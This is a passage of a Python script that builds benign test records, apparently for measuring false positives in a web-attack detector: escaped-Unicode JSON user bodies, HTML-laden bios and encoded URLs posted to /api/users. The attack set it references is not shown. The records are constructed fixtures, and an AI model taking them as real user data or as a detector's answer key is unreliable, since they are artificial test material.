    ("X-Forwarded-For", "203.0.113.45"),
]

# JSON bodies as Python requests, Guzzle and most client libraries write them: non-ASCII as \u escapes (emoji as
# surrogate pairs), rich-text bios from the web editor with their HTML entities and tags
ESCAPED_JSON: list[dict[str, Any]] = [
    {"name": "Jos\u00e9 M\u00fcller", "email": "jose@example.org"},
    {"name": "\u5c71\u7530 \u592a\u90ce", "address": "\u6771\u4eac\u90fd\u6e0b\u8c37\u533a\u795e\u5357\uff11"},
    {"name": "\u738b\u4f1f", "bio": "\u4ea7\u54c1\u7ecf\u7406\uff0c\u559c\u6b22\u722c\u5c71 \U0001f3d4\ufe0f"},
    {"name": "Zo\u00eb", "bio": "Designer \U0001f3a8 \u2022 coffee \u2615"},
    {"name": "Ann", "bio": "Tom &amp; Jerry fan &mdash; since forever"},
    {"name": "Ann", "bio": "<p>Hi, I&#39;m Ann. I work on the <strong>directory</strong> team.</p>"},
    {"name": "Ren", "bio": "<p>\u65e5\u672c\u8a9e\u3068\u82f1\u8a9e OK&nbsp;\U0001f1ef\U0001f1f5</p>"},
    {"name": "\uae40\ubbfc\uc218", "address": "\uc11c\uc6b8 \uac15\ub0a8\uad6c"},
    {"name": "\uff34\uff41\uff4e\uff41\uff4b\uff41", "address": "\u5927\u962a\u5e02\u5317\u533a"},
    {"name": "Fran\u00e7ois", "website": "https://example.fr/caf%C3%A9"},
    {"name": "Ann", "bio": "Math teacher: x\u00b2 + y\u00b2 = r\u00b2 and a < b < c"},
    {"name": "Lee", "bio": "He said \u201cship it\u201d \u2014 so we did \U0001f680"},
    {"name": "Ana", "website": "https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC", "bio": "\u6771\u4eac\u2708"},
    {"name": "Sam", "bio": "PHP & Vue developer \u2022 {{ coffee }} enthusiast"},
    {"name": "Mia", "bio": "Quote of the day: \u00ab la vie est belle \u00bb \u2764\ufe0f"},
    {"name": "Li", "address": "\u5317\u4eac\u5e02\u671d\u9633\u533a\uff08\u671b\u4eac\uff09"},
    {"name": "Ola", "bio": "Bergen \u2192 Oslo \u2192 Tokyo \u00b7 \u00e6\u00f8\u00e5"},
    {"name": "Eve", "bio": "<ul><li>Frontend</li><li>Accessibility</li></ul>"},
    {"name": "Raj", "bio": "Loves \u092d\u093e\u0930\u0924\u0940\u092f food \U0001f35b and cricket \U0001f3cf"},
    {"name": "Noa", "bio": "\u05e9\u05dc\u05d5\u05dd! Product at the Tel Aviv office"},
    {"name": "Kai", "bio": "Temperature alerts in \u2103 please \U0001f321\ufe0f"},
    {"name": "Bo", "bio": "Favorite formula: e^(i\u03c0) + 1 = 0"},
    {"name": "Ida", "address": "Storgatan 1, G\u00f6teborg", "bio": "Fika at 15:00 \u2615"},
    {"name": "Yui", "bio": "\uff08\u6c34\uff09\u5348\u5f8c\u306f\u30ea\u30e2\u30fc\u30c8\u3067\u3059\uff01"},
    {"name": "Max", "website": "https://example.com/search?q=caf%C3%A9%20cr%C3%A8me&lang=fr"},
]


def escaped_json(prefix: str, n: int) -> Generator[Record, None, int]:
    return numbered((request("POST", "/api/users", json.dumps(doc), "application/json") for doc in ESCAPED_JSON),
                    f"{prefix}-escaped-json", n, "json")


def benign() -> Iterator[dict[str, Any]]:
    """Slack messages and bios, searches, links and prose, profiles, uploads, headers, \\u-escaped JSON bodies."""
    prefix = NAME + "-benign"
    n = yield from chat_and_bio(CHAT, prefix)
    n = yield from SET.searches(SEARCHES, prefix, n)
    n = yield from links_and_prose(URLS, PROSE, prefix, n)
    n = yield from SET.profiles(PROFILES, prefix, n)
    n = yield from SET.uploads(UPLOAD_FILES, prefix, n, "name,email\nAnn,ann@example.org\n")
    n = yield from SET.headers(BENIGN_HEADERS, prefix, n)
    yield from escaped_json(prefix, n)


if __name__ == "__main__":
    print_records(attacks(), benign())
